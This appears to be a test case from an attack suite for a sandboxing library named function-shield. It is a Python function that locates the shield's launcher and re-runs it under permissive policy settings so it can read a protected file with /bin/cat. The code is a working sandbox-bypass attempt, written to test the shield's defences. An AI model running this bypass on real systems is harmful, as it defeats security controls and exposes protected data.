# class: configuration
# rule: read_write_tmp create_child_process
# policy: child-allowed.yaml
# success: the launcher is started once more by the function, with a policy that allows everything
# proof: read
import os
import subprocess

from attack import FILE, attempt


@attempt
def steal():
    with open("/proc/self/maps") as maps:
        paths = {line.split()[-1] for line in maps if "function-shield.so" in line}
    before = [
        os.path.join(os.path.dirname(os.path.dirname(path)), "function-shield") for path in paths
    ]
    found = b""
    for mode, policy in (
        ("off", "monitor"),
        ("alert", "monitor"),
        ("", "functionshield"),
        ("", "monitor"),
    ):
        environment = {"FUNCTION_SHIELD_POLICY": policy, "PATH": os.environ["PATH"]}
        if mode:
            environment["FUNCTION_SHIELD_MODE"] = mode
        argv = [*before, "/bin/cat", FILE]
        found += subprocess.run(
            argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=environment
        ).stdout
    return found
